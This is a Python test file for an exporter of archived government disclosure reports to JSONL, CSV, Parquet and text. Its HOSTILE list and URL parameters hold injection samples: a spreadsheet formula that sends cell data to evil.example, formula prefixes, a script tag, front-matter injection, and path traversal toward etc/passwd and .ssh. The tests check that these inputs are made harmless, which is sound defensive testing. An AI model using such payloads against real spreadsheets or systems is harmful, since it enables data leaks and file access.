"""Exported files: readable by the tools they are for, harmless, and explained."""

from __future__ import annotations

import csv
import io
import json
import resource
import signal
import subprocess
import sys
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from archive import delivery, export, formats, schema
from archive.delivery import Selection
from archive.errors import InputError
from archive.records import AttachmentLink, Figure, Finding
from archive.store import Archive

Put = Callable[..., Any]


def written(archive: Archive, target: Path, form: Any = "jsonl", **asked: Any) -> export.Exported:
    return export.export(archive.path, target, form=form, **asked)


def json_rows(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def csv_rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_json_lines_hold_what_the_archive_holds(archive: Archive, tmp_path: Path) -> None:
    done = written(archive, tmp_path / "all.jsonl")
    assert (done.documents, done.rows) == (20, 20)
    assert json_rows(tmp_path / "all.jsonl") == list(archive.documents())


def test_a_second_run_delivers_only_what_changed(archive: Archive, tmp_path: Path, put: Put) -> None:
    first = written(archive, tmp_path / "all.jsonl")
    for number in range(1, 11):
        put(archive, number, f"第{number}号年报修订版", day=2)
    second = written(archive, tmp_path / "new.jsonl", since=first.cursor)
    assert second.documents == len(json_rows(tmp_path / "new.jsonl")) == 10
    assert written(archive, tmp_path / "none.jsonl", since=second.cursor).documents == 0


def test_csv_and_parquet_have_the_columns_of_the_schema(archive: Archive, tmp_path: Path) -> None:
    written(archive, tmp_path / "all.csv", "csv")
    written(archive, tmp_path / "all.parquet", "parquet")
    expected = ["cursor", *schema.TABLES["documents"].columns]
    rows, table = csv_rows(tmp_path / "all.csv"), pq.read_table(tmp_path / "all.parquet")
    assert list(rows[0]) == table.column_names == expected
    assert [row["title"] for row in rows] == table["title"].to_pylist()
    assert table["report_year"].to_pylist() == [2020 + number % 5 for number in range(1, 21)]
    assert [row["gone_at"] for row in rows] == [""] * 20


def test_figures_are_a_table_of_their_own(archive: Archive, tmp_path: Path) -> None:
    done = written(archive, tmp_path / "figures.parquet", "parquet", selection=Selection("figures"))
    table = pq.read_table(tmp_path / "figures.parquet").to_pylist()
    assert (done.documents, done.rows, len(table)) == (20, 40, 40)
    assert [(row["report_year"], row["table"], row["value"]) for row in table[:3]] == [
        (2021, "requests", 1.0), (2021, "requests", None), (2022, "requests", 2.0),
    ]  # fmt: skip


@pytest.mark.parametrize("table", delivery.TABLES)
def test_every_table_goes_into_every_flat_format(archive: Archive, tmp_path: Path, table: str) -> None:
    counts = {
        form: written(archive, tmp_path / f"x.{form}", form, selection=Selection(table)).rows
        for form in ("jsonl", "csv", "parquet")
    }
    assert len(set(counts.values())) == 1
    assert (
        len(csv_rows(tmp_path / "x.csv"))
        == pq.read_metadata(tmp_path / "x.parquet").num_rows
        == counts["csv"]
    )


def test_a_dictionary_beside_the_export_names_every_column(archive: Archive, tmp_path: Path) -> None:
    written(archive, tmp_path / "figures.csv", "csv", selection=Selection("figures"))
    told = (tmp_path / "figures.csv.dictionary.md").read_text(encoding="utf-8")
    for name, column in delivery.columns("figures").items():
        assert f"| `{name}` | {column.type.lower()} | {column.meaning} |" in told
    header = next(csv.reader(io.StringIO((tmp_path / "figures.csv").read_text(encoding="utf-8-sig"))))
    assert header == list(delivery.columns("figures"))


def test_the_dictionary_of_json_lines_names_everything_nested(archive: Archive, tmp_path: Path) -> None:
    written(archive, tmp_path / "all.jsonl")
    told = (tmp_path / "all.jsonl.dictionary.md").read_text(encoding="utf-8")
    for row in json_rows(tmp_path / "all.jsonl"):
        for name, value in row.items():
            assert f"`{name}`" in told
            for part in value if isinstance(value, list) else ():
                section = told.partition(f"## `{name}`")[2].partition("\n## ")[0]
                assert all(f"| `{column}` |" in section for column in part)


def test_texts_are_a_file_a_document_with_front_matter(archive: Archive, tmp_path: Path) -> None:
    done = written(archive, tmp_path / "texts", "text")
    files = sorted((tmp_path / "texts").rglob("*.txt"))
    assert done.documents == len(files) == 20
    _, matter, text = files[0].read_text(encoding="utf-8").split("---\n", 2)
    told = yaml.safe_load(matter)
    assert (told["title"], told["report_year"], told["issuing_body"]) == (
        "第1号公开年报",
        2021,
        "样例市人民政府",
    )
    assert text.strip() == "样例市第1号政府信息公开工作年度报告\n受理依申请公开1件"


def test_a_changed_page_replaces_its_text(archive: Archive, tmp_path: Path, put: Put) -> None:
    first = written(archive, tmp_path / "texts", "text")
    put(archive, 3, "第3号年报修订版", day=2)
    written(archive, tmp_path / "texts", "text", since=first.cursor)
    files = sorted((tmp_path / "texts").rglob("*.txt"))
    assert len(files) == 20
    assert "修订版" in files[2].read_text(encoding="utf-8")


HOSTILE = [
    "=HYPERLINK(\"http://evil.example/\"&A1)", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1+1", "'=1", "'",
    "<script>alert(1)</script>", "---\nurl: x", "a\x85b\x9f\ufeffc\u2028d", "../../etc/passwd", '", "',
    "a\n=b",
]  # fmt: skip


@pytest.mark.parametrize("title", HOSTILE)
def test_hostile_titles_are_harmless_in_every_format_and_come_back(
    tmp_path: Path, put: Put, link: Callable[[int, str], AttachmentLink], title: str
) -> None:
    with Archive.open(tmp_path / "archive.db", create=True) as archive:
        put(archive, 1, "正文", title=title, attachments=(link(1, title),), findings=())
        for form in ("jsonl", "csv", "parquet", "text"):
            written(archive, tmp_path / f"out.{form}", form)
    (cell,) = [row["title"] for row in csv_rows(tmp_path / "out.csv")]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
    assert cell.removeprefix("'") == title if cell != title else not title.startswith("'")
    assert json_rows(tmp_path / "out.jsonl")[0]["title"] == title
    assert pq.read_table(tmp_path / "out.parquet")["title"].to_pylist() == [title]
    (text,) = (tmp_path / "out.text").rglob("*.txt")
    told = next(yaml.safe_load_all(text.read_text(encoding="utf-8")))
    assert told["title"] == title
    assert told["attachments"] == [{"name": title, "url": "http://www.example.gov.cn/files/1.pdf"}]


@given(st.text())
def test_no_cell_begins_like_a_formula_and_every_cell_can_be_undone(text: str) -> None:
    cell = formats.cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert (cell[1:] if cell.startswith("'") else cell) == text


@pytest.mark.parametrize(
    "url",
    [
        "http://../../../etc/passwd",
        "http://a/../../x",
        "file:../../etc/passwd#x",
        "http://%2e%2e/x",
        "http://.ssh/x",
    ],
)
def test_no_address_leads_a_text_out_of_its_directory(tmp_path: Path, put: Put, url: str) -> None:
    with Archive.open(tmp_path / "archive.db", create=True) as archive:
        put(archive, 1, "正文", url=url)
        written(archive, tmp_path / "texts", "text")
    (text,) = tmp_path.rglob("*.txt")
    assert text.parent.parent == tmp_path / "texts"
    assert text.name == "000001.txt"


def test_large_rows_are_spread_over_chunks(tmp_path: Path, put: Put) -> None:
    with Archive.open(tmp_path / "archive.db", create=True) as archive:
        for number in range(1, 7):
            put(archive, number, f"正文{number}", catalogue={"summary": "述" * 3_000_000}, figures=())
        written(archive, tmp_path / "out.parquet", "parquet")
    told = pq.read_metadata(tmp_path / "out.parquet")
    assert (told.num_rows, told.num_row_groups) == (6, 2)


def test_an_empty_selection_gives_an_empty_file(archive: Archive, tmp_path: Path) -> None:
    written(archive, tmp_path / "x.jsonl")
    done = written(archive, tmp_path / "x.jsonl", selection=Selection(filters={"city": "nowhere"}))
    assert (done.documents, (tmp_path / "x.jsonl").read_bytes()) == (0, b"")


def test_a_target_that_will_not_do_is_refused(archive: Archive, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("mine")
    with pytest.raises(InputError, match="texts go into a directory"):
        written(archive, tmp_path / "file", "text")
    with pytest.raises(InputError, match="name a file"):
        written(archive, tmp_path)
    with pytest.raises(InputError, match="does not exist"):
        written(archive, tmp_path / "no" / "out.jsonl")
    with pytest.raises(InputError, match="not a cursor"):
        written(archive, tmp_path / "out", since="yesterday")
    assert (tmp_path / "file").read_text() == "mine"
    assert {path.name.partition("-")[0] for path in tmp_path.iterdir()} == {"archive.db", "file"}


def test_a_disk_that_takes_no_more_is_told_and_the_export_goes_on_later(
    archive: Archive, tmp_path: Path
) -> None:
    def little_space() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (9_000, 9_000))

    target = tmp_path / "out.jsonl"
    command = [
        sys.executable,
        "-c",
        "from crawler.cli import main; main()",
        "export",
        "--archive",
        archive.path,
    ]
    ended = subprocess.run(
        [*command, "-o", target], preexec_fn=little_space, capture_output=True, text=True, check=False
    )
    assert ended.returncode == 1
    assert "out.jsonl: cannot be written: File too large. What was written is good" in ended.stderr
    assert written(archive, target).resumed
    assert json_rows(target) == list(archive.documents())


def test_findings_keep_their_own_columns_apart_from_the_pages(
    archive: Archive, tmp_path: Path, put: Put
) -> None:
    put(archive, 99, "甲", findings=(Finding("mojibake", 0, 1, "甲", "乙", "proved", "rule"),))
    written(
        archive, tmp_path / "f.csv", "csv", selection=Selection("findings", filters={"report_year": 2024})
    )
    row = csv_rows(tmp_path / "f.csv")[-1]
    assert (row["page_kind"], row["kind"], row["before"], row["after"]) == (
        "annual_report",
        "mojibake",
        "甲",
        "乙",
    )


def test_parquet_without_pyarrow_says_what_to_install(
    archive: Archive, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(InputError, match=r"pip install 'gongkai\[parquet\]'"):
        written(archive, tmp_path / "x.parquet", "parquet")


def test_a_crawl_readers_and_an_export_do_not_disturb_each_other(tmp_path: Path, put: Put) -> None:
    path, done = tmp_path / "archive.db", threading.Event()
    failures: list[BaseException] = []

    def crawl() -> None:
        with Archive.open(path) as archive:
            for day in range(1, 9):
                for number in range(1, 31):
                    figures = tuple(Figure("t", str(row), "c", row) for row in range(day))
                    put(archive, number, f"第{number}号第{day}日", day=day, figures=figures)

    def search() -> None:
        with Archive.open(path, readonly=True) as archive:
            while not done.is_set():
                archive.search("第3日")

    def guarded(work: Callable[[], None]) -> Callable[[], None]:
        def run() -> None:
            try:
                work()
            except BaseException as error:  # whatever it is, the test fails with it
                failures.append(error)

        return run

    Archive.open(path, create=True).close()
    readers = [threading.Thread(target=guarded(search)) for _ in range(4)]
    crawler = threading.Thread(target=guarded(crawl))
    for thread in (*readers, crawler):
        thread.start()
    seen: dict[str, int] = {}
    cursor: str | None = None
    while True:
        last = not crawler.is_alive()
        exported = export.export(path, tmp_path / "out.jsonl", since=cursor)
        for row in json_rows(tmp_path / "out.jsonl"):
            day = int(row["text"][-2])
            assert len(row["figures"]) == day, "a half-written document was exported"
            assert seen.get(row["url"], 0) < day
            seen[row["url"]] = day
        cursor = exported.cursor
        if last:
            break
    done.set()
    for thread in readers:
        thread.join()
    assert failures == []
    assert list(seen.values()) == [8] * 30
